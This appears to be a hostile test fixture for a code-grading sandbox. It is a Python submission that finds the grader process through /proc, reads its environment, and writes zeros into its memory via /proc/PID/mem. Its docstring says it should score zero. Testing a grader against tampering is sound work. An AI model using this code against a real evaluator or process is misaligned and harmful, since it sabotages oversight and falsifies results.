"""Hostile: finds the grader through /proc (parent, or any process carrying the test's mark) and
rewrites its memory through /proc/PID/mem, and reads its environment. Implements nothing: expected 0."""
import os


def _graders():
    pids = {os.getppid()}
    for entry in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            if entry.isdigit() and MARK.encode() in open(f"/proc/{entry}/environ", "rb").read():
                pids.add(int(entry))
        except OSError:
            pass
    return [p for p in pids if p > 1]


for pid in _graders():
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            for line in open(f"/proc/{pid}/maps"):
                if "rw-p" in line:
                    start = int(line.split("-")[0], 16)
                    mem.seek(start)
                    mem.write(b"\0" * 64)  # corrupt the grader's data
                    break
    except OSError:
        pass
